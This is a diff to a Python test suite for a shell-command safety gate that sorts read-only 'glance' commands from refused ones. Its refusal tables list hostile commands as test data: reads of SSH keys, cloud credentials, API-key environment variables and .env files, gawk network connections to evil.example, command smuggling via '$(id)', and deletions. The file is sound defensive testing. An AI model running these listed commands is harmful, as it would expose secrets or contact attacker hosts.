@@ -1,8 +1,9 @@
 """is_ephemeral: the gate deciding what a coordinator may run without a worker.
 
-A wrong True is a security bug (state change or code execution behind a whitelisted verb), so
-the table below is mostly attacks, and the hypothesis properties insert refused constructs into
-otherwise-whitelisted commands and demand False every time.
+A wrong True is a security bug (a write, a program run, the network, a secret printed behind an
+allowed verb), so the table below is mostly attacks, and the hypothesis properties insert refused
+constructs into otherwise-allowed commands and demand False every time. Focused rules per binary
+live in tests/glance/test_rules_*.py.
 
 The tests ask ``decide``, not ``is_ephemeral``: ``is_ephemeral`` turns any crash inside the
 checker into a ``False`` (fail closed), which would let a crashing checker pass every "refused"
@@ -20,7 +21,8 @@ from hypothesis import strategies as st
 
 import flower
 from flower.core import ephemeral
-from flower.core.ephemeral import _VERBS, NEVER, Word, _lex, _Refuse, decide, is_ephemeral
+from flower.core.ephemeral import NEVER, REMOVED, VERBS, decide, explain, is_ephemeral
+from flower.core.glance.lexer import Refuse, Word, lex
 
 from ..fuzz import examples
 
@@ -64,8 +66,6 @@ ALLOWED = [
     "git remote -v",
     "git remote get-url origin",
     "git config --get user.name",
-    "git config --list --show-origin",
-    "git config -l",
     "git config get user.email",
     "git reflog -10",
     "git reflog show main",
@@ -92,10 +92,6 @@ ALLOWED = [
     "whoami",
     "id",
     "uname -a",
-    "env",
-    "env -0",
-    "printenv PATH",
-    "hostname -f",
     "uptime",
     "nproc",
     "free -h",
@@ -106,20 +102,16 @@ ALLOWED = [
     "ps -ef | grep python",
     "top -b -n 1",
     "top -bn1 | head -20",
-    "lsof -i :8080",
     "lsof -nP -iTCP -sTCP:LISTEN",
+    "lsof -n -i :8080",
     "ss -tlnp",
     "pgrep -fl uvicorn",
     "docker ps",
     "docker ps -a --format '{{.Names}}'",
     "docker images",
-    "docker inspect web",
     "docker logs --tail 50 web",
     "docker stats --no-stream",
     "docker compose ps",
-    "kubectl get pods -n prod -o wide",
-    "kubectl describe pod web-1",
-    "kubectl logs web-1 --tail=100",
     # -- file viewing --
     "cat /etc/hosts",
     "cat README.md | head -50",
@@ -204,7 +196,6 @@ ALLOWED = [
     "sed '\\,x,d' f",
     "sed '1!G;h;$!d' f",
     "docker logs --since 10m web",
-    "kubectl get pods -A",
     "date --rfc-3339 seconds",
     "uniq -f 1 -c f",
     "sort -rnk2 f",
@@ -219,6 +210,101 @@ ALLOWED = [
     "g\\it status",
     "ls -- 'a;b'",
     "grep -- -v f",
+    # -- exact parsing: `--` after `-t x` really ends sort's options, so -o is a file here --
+    "sort -t x -- -o out f",
+    "awk '{print}$1>0'",  # `{print}` then a new rule `$1>0`: the `>` compares
+    # -- refused before, ordinary glances now (each argued in docs/ephemeral.md) --
+    "echo hi",
+    "echo 'a b' \"c\"",
+    "printf '%s\\n' a b",
+    "printf -- '-x'",
+    "true",
+    "false",
+    "test -d .git && echo repo",
+    "[ -f pyproject.toml ] && echo yes || echo no",
+    "test -n x -a -e README.md",
+    "cat X 2>/dev/null || echo missing",
+    "ls build && echo ok",
+    "tail -n 5 *.log",
+    "head -5 *.md",
+    "cat *.py | wc -l",
+    'basename "$PWD"',
+    'ls "$HOME"',
+    'cat "${PWD}/README.md"',
+    'ls "$HOME/projects"',
+    "python3 --version",
+    "python --version",
+    "python3.11 -V",
+    "pip --version",
+    "pip list",
+    "pip3 list --format=json",
+    "pip show -f requests",
+    "pip freeze --all",
+    "pip check",
+    "node --version",
+    "go version",
+    "gcc --version",
+    "make --version",
+    "uv --version",
+    "env --version",
+    # -- the new allow-lists, on realistic glances --
+    "find . -name x -print -quit",
+    "find src -maxdepth 2 -type d -not -path '*/.git/*'",
+    "find . -newermt 2024-01-01 -type f",
+    "find . -size +1M -printf '%s %p\\n'",
+    "grep -rn --include='*.py' TODO src",
+    "grep -rlZ foo src",
+    "grep -f patterns.txt log.txt",
+    "egrep 'a|b' f",
+    "fgrep -x foo f",
+    "rg --files src",
+    "rg -t py -g '!tests' foo",
+    "rg -uu TODO",
+    "ps auxf",
+    "ps -p 1 -o pid,ppid,etime,cmd",
+    "ps axo pid,comm",
+    "ss -lnt sport = :8080",
+    "ss -tn state established",
+    "netstat -tlnp",
+    "netstat -i",
+    "docker ps -aq",
+    "docker container ls --format '{{.Names}}'",
+    "docker system df",
+    "docker compose logs --tail=50 web",
+    "jq '.env' config.json",
+    "jq --arg x 1 '.a' f.json",
+    "jq -n '[1,2] | length'",
+    'jq -r \'"\\(.name) \\(.version)"\' package.json',
+    "sed -n '/x/=' f",
+    "awk 'length($0) > 80' f",
+    "awk '{s+=$2} END {printf \"%d\\n\", s}' f",
+    "awk -v OFS=, '{print $1, $2}' f",
+    "git log -L 10,20:src/x.py",
+    "git show HEAD:README.md",
+    "git diff -- '*.py'",
+    "git diff --no-index a.txt b.txt",
+    "git status --porcelain=v2 --branch",
+    "git log --pretty=format:'%h %s' -5",
+    "git config get user.name",
+    "git config --get remote.origin.url",
+    "git remote get-url --push origin",
+    "git branch -vv --no-color",
+    "git tag --list 'v1.*' --sort=-v:refname",
+    "git ls-files -z -- src",
+    "git grep -c TODO -- src",
+    "date -d '2 days ago' +%F",
+    "du -h --max-depth=1 .",
+    "stat -c '%s %n' *",
+    "ls -la *",
+    "wc -l *",
+    "md5sum *.whl",
+    "diff -ru a b",
+    "cat /proc/cpuinfo",
+    "cat /proc/loadavg",
+    "ls ~/.ssh",
+    "cat ~/.ssh/id_ed25519.pub",
+    "who am i",
+    "top -b -n 1 -o %MEM",
 ]
 
 REFUSED = [
@@ -281,7 +367,6 @@ REFUSED = [
     "touch x",
     "mkdir x",
     "cd src && ls",
-    "echo hi",
     "python -c 'print(1)'",
     "bash -c ls",
     "ls | xargs rm",
@@ -476,13 +561,10 @@ REFUSED = [
     "kubectl apply -f x.yaml",
     "kubectl delete pod x",
     "kubectl exec -it x -- sh",
-    "kubectl get pods -w",
-    "kubectl get pods --watch",
-    "kubectl logs -f x",
     "kubectl --kubeconfig=evil get pods",
     "kubectl get pods --kubeconfig=evil",
     "kubectl cluster-info dump",
-    "kubectl config current-context",  # only get/describe/logs, as the seed says
+    "kubectl config current-context",  # kubectl is off the glance list altogether
     "kubectl config use-context prod",
     # -- a refused segment anywhere in a compound command --
     "ls && rm -rf x",
@@ -493,7 +575,6 @@ REFUSED = [
     "grep foo f 2>/dev/null | tee out | wc -l",
     # -- hardening: `--` taken as an option's argument, consumed values, look-alikes --
     "rg -e -- --pre=sh x",
-    "sort -t x -- -o out f",
     "git log -S -- --output=x",
     "git diff -- *",
     "git config --file --get x.y z",
@@ -516,7 +597,6 @@ REFUSED = [
     "uniq -c - out",
     "awk -e 'BEGIN{}'",
     "awk --source 'BEGIN{}'",
-    "awk '{print}$1>0'",
     "awk 'BEGIN { cmd = \"id\"; cmd | getline }'",
     "sed -n '1p;w x' f",
     "sed 's/x/y/;e' f",
@@ -526,13 +606,208 @@ REFUSED = [
     "docker logs -tf web",
     "docker container logs -f web",
     "top -b -n 0",
-    "kubectl get po -s http://evil",
-    "kubectl get pods --server=http://evil",
-    "kubectl get pods --cache-dir=/etc",
-    "kubectl logs --follow=false pod",
     "ss -D dump.bin",
     "ls >/dev/stdout",
     "ls 2>/dev/./null",
+    # -- the review's holes: bfs -rm, ugrep's extra options, rg's programs --
+    "find . -name X -rm",
+    "find . -name x -exec rm {} +",
+    "find . -files0-from list",
+    "find . -name a -o -name b -fls out",
+    "grep -Q foo",
+    "grep --query foo",
+    "grep --filter='*:sh' foo .",
+    "grep --pager=less foo f",
+    "grep --view=vim foo f",
+    "grep --save-config foo",
+    "grep --config=evil foo f",
+    "grep --from=list foo",
+    "grep -D read foo f",
+    "grep --index foo",
+    "grep foo *",
+    "grep -rn foo *.py",
+    "rg -z foo",
+    "rg --search-zip foo",
+    "rg --pre-glob='*' --pre=cat foo",
+    # -- gawk special files, the environment, ARGV tricks --
+    "awk '{print}' /inet/tcp/0/evil.example/80",
+    "awk '{print}' /inet4/udp/0/evil.example/53",
+    "gawk 'BEGIN { print ENVIRON[\"ANTHROPIC_API_KEY\"] }'",
+    "awk 'BEGIN{ARGV[1]=\"/inet/tcp/0/x/80\"; ARGC=2} {print}'",
+    "awk 'BEGIN{print PROCINFO[\"pid\"]}'",
+    "awk 'BEGIN{ \"date\" |& getline x }'",
+    "awk 'BEGIN{ print SYMTAB[\"ENVIRON\"][\"HOME\"] }'",
+    "awk 'BEGIN{ f = \"system\"; @f(\"id\") }'",
+    "awk 'BEGIN{ close(\"x\") }'",
+    "awk --exec prog.awk",
+    "awk --source 'BEGIN{}' f",
+    "awk --assign x=1 '{print}' f",
+    # -- name resolution --
+    "lsof -i @evil.example",
+    "lsof -n -i @evil.example",
+    "lsof -n -i TCP@evil.example:80",
+    "lsof -i :8080",
+    "lsof -p 1",
+    "ss dst evil.example",
+    "ss -tn dst evil.example:443",
+    "ss -r",
+    "ss -E",
+    "netstat -tlp",
+    "netstat -c -n",
+    "hostname -f",
+    "hostname -A",
+    "hostname -i",
+    "hostname -d",
+    "who --lookup",
+    # -- the environment and secrets --
+    "env",
+    "env -0",
+    "printenv",
+    "printenv ANTHROPIC_API_KEY",
+    "cat /proc/self/environ",
+    "cat /proc/1/cmdline",
+    "head -c 100 /proc/self/mem",
+    "cat /proc/*/environ",
+    "cat /proc/*/env*",
+    "grep -a KEY /proc/self/environ",
+    "cat ../../proc/self/environ",
+    "cat /etc/../proc/self/environ",
+    "cat .env",
+    "cat .env.local",
+    "cat .en?",
+    "cat src/.env",
+    "cat *",
+    "head .*",
+    "grep KEY .env",
+    "grep -rn KEY ~",
+    "grep -r KEY /",
+    "rg KEY ~/.config",
+    "cat ~/.config/flower/.env",
+    'cat "$HOME/.config/flower/.env"',
+    "cat ~/.claude/.credentials.json",
+    "cat ~/.netrc",
+    "cat ~/.ssh/id_rsa",
+    "cat ~/.ssh/*",
+    "cat ~/.aws/credentials",
+    "cat ~/.docker/config.json",
+    "cat ~/.kube/config",
+    "cat server.pem",
+    "cat tls.KEY",
+    "cat .git-credentials",
+    "sed -n p .pgpass",
+    "jq . .npmrc",
+    "grep -f .env x",
+    "jq --rawfile k .env -n '$k'",
+    "jq -n env",
+    "jq -n '$ENV'",
+    "jq -n '$ENV.ANTHROPIC_API_KEY'",
+    "jq -n '\"\\(env)\"'",
+    "jq -n 'import \"x\" as $x; $x'",
+    "jq -f prog.jq f",
+    "jq -L . -n 1",
+    "ps e",
+    "ps auxe",
+    "ps -o pid,environ",
+    "ps eww -p 1",
+    "docker inspect web",
+    "docker container inspect web",
+    "docker image inspect alpine",
+    "docker top web e",
+    "docker -H tcp://evil ps",
+    "docker --context prod ps",
+    "docker --config /tmp/x ps",
+    "docker --tlsverify ps",
+    "git config --list",
+    "git config -l",
+    "git config list",
+    "git config --get http.https://github.com/.extraheader",
+    "git config --get-regexp '.*'",
+    "cat /dev/zero",
+    "cat /dev/tty",
+    "tail -c 10 /dev/urandom",
+    # -- removed binaries --
+    "kubectl get pods",
+    "kubectl get --raw /api/v1/namespaces/default/services/x:80/proxy/",
+    "kubectl version --client",
+    # -- false-refusal fixes must not open holes --
+    "printf -v PATH /tmp/evil",
+    "printf -v 'a[$(id)]' x",
+    "printf * x",
+    "test -v 'a[$(id)]'",
+    "[ -v 'a[$(id)]' ]",
+    "[ -R x ]",
+    "test * = x",
+    "[ -d x",
+    "[[ -d x ]]",
+    "[[ 'a[$(id)]' -eq 1 ]]",
+    "ls $PWD",
+    "ls ${PWD}",
+    'ls "$PWDX"',
+    'ls "$OLDPWD"',
+    'ls "${HOME:-/}"',
+    'ls "${HOME}x${PATH}"',
+    "sort *.log",
+    "uniq *.txt",
+    "tail *.c",
+    "tail *f",
+    "tail -n 5 *",
+    "python3 -c 'print(1)'",
+    "python3 script.py",
+    "python3 -m pip list",
+    "python3 --version --foo",
+    "pip list --outdated",
+    "pip list -o",
+    "pip list --uptodate",
+    "pip list --index-url https://evil",
+    "pip list --extra-index-url https://evil",
+    "pip list --find-links /tmp",
+    "pip list --proxy http://evil",
+    "pip list --log /tmp/x",
+    "pip list --cache-dir /tmp/x",
+    "pip --python ./evil list",
+    "pip install requests",
+    "pip freeze -r requirements.txt",
+    "npm --version",
+    "npx --version",
+    "cargo --version",
+    "rustc --version",
+    "java -version",
+    "node -e 'process.exit()'",
+    "go env",
+    "go run .",
+    "make",
+    "make --version -f x",
+    "ruby -v",
+    "git --help",
+    "git log --help",
+    "git ls-remote origin",
+    "git remote show origin",
+    "git log --show-signature",
+    "git log --format=%G?",
+    "git log --pretty=format:%GS",
+    "git -C /tmp log",
+    "git --work-tree=/ status",
+    "git --config-env=core.pager=X log",
+    "git show HEAD:.env",
+    "git diff .env",
+    "git log -L 1,5:.env",
+    "git grep --open-files-in-pager=vim x",
+    "git diff -O order.txt",
+    "date -f .env",
+    "strings @opts",
+    "cd /",
+    "export A=1",
+    "unset PATH",
+    "set -x",
+    "tee out",
+    "! ls",
+    "ls | kill 1",
+    "xxd f",
+    "file -z x.gz",
+    "df --sync",
+    "du --files0-from=x",
+    "ls --fo=long",
+    "sort --out=x f",
 ]
 
 
@@ -554,8 +829,9 @@ def test_table_is_large_and_balanced() -> None:
     assert 0.5 < len(ALLOWED) / len(REFUSED) < 2
 
 
-def test_never_list_is_not_whitelisted() -> None:
-    assert not NEVER & set(_VERBS)
+def test_never_and_removed_are_not_on_the_glance_list() -> None:
+    assert not set(NEVER) & set(VERBS)
+    assert not set(REMOVED) & set(VERBS)
 
 
 def test_public_export() -> None:
@@ -572,10 +848,22 @@ def test_only_the_gate_turns_a_checker_crash_into_false(monkeypatch: pytest.Monk
     def broken(words: object) -> bool:
         raise IndexError("a bug in a rule")
 
-    monkeypatch.setattr(ephemeral, "_segment_ok", broken)
+    monkeypatch.setattr(ephemeral, "_check_segment", broken)
     with pytest.raises(IndexError):
         decide("ls")
     assert is_ephemeral("ls") is False  # fail closed
+    assert explain("ls") == "the glance checker could not judge this command"
+
+
+@pytest.mark.parametrize("cmd", ALLOWED)
+def test_explain_agrees_with_decide_on_allowed(cmd: str) -> None:
+    assert explain(cmd) is None
+
+
+@pytest.mark.parametrize("cmd", REFUSED)
+def test_explain_gives_one_line_for_every_refusal(cmd: str) -> None:
+    reason = explain(cmd)
+    assert reason and "\n" not in reason and len(reason) <= 200
 
 
 # --------------------------------------------------------------------------------------------
@@ -603,8 +891,13 @@ SAFE_SEGMENTS = [
     "date +%s",
     "command -v git",
     "docker ps",
-    "kubectl get pods",
     "rg TODO",
+    "echo done",
+    "test -f x",
+    "python3 --version",
+    "pip list",
+    "lsof -nP -i :8080",
+    'ls "$PWD"',
 ]
 SEPARATORS = ["&&", "||", ";", "|", "|&"]
 SAFE_REDIRECTIONS = ["", "2>/dev/null", ">/dev/null", "2>&1", "&>/dev/null", "> /dev/null 2>&1"]
@@ -642,10 +935,29 @@ BAD_SEGMENTS = [
     "rg --pre=sh x",
     "git log --output=x",
     "git diff --ext-diff",
-    "kubectl get pods -w",
+    "kubectl get pods",
     "docker logs -f x",
     "PAGER=sh git log",
     "/bin/rm x",
+    "find . -name x -rm",
+    "grep -Q x",
+    "grep --filter='*:sh' x .",
+    "awk 'BEGIN{print ENVIRON[\"HOME\"]}'",
+    "awk '{print}' /inet/tcp/0/evil.example/80",
+    "env",
+    "printenv",
+    "cat /proc/self/environ",
+    "jq -n env",
+    "ps auxe",
+    "docker inspect x",
+    "cat .env",
+    "lsof -i @evil.example",
+    "ss dst evil.example",
+    "hostname -f",
+    "printf -v PATH x",
+    "test -v 'a[$(id)]'",
+    "pip list --outdated",
+    "npm --version",
 ]
 #: words that make any segment they are inserted into refused (expansions, file redirections)
 BAD_WORDS = [
@@ -666,6 +978,10 @@ BAD_WORDS = [
     "<<< x",
     "(ls)",
     "{ls,x}",
+    "$PWD",
+    "${HOME}",
+    '"$PATH"',
+    '"${HOME:-x}"',
 ]
 #: separators that make the command refused
 BAD_SEPARATORS = ["&", "\n", "\r", ";;"]
@@ -774,8 +1090,8 @@ WORD_ALPHABET = [*"ab-'\"\\ \t#{}@*?[]=,.:/", "@{u}", "@{1}", "{a,b}", "'x y'", 
 def test_words_match_bash(text: str) -> None:
     """Whatever the lexer accepts as plain words, bash splits into the same words."""
     try:
-        tokens = _lex(text)
-    except _Refuse:
+        tokens = lex(text)
+    except Refuse:
         return
     if not tokens:
         return
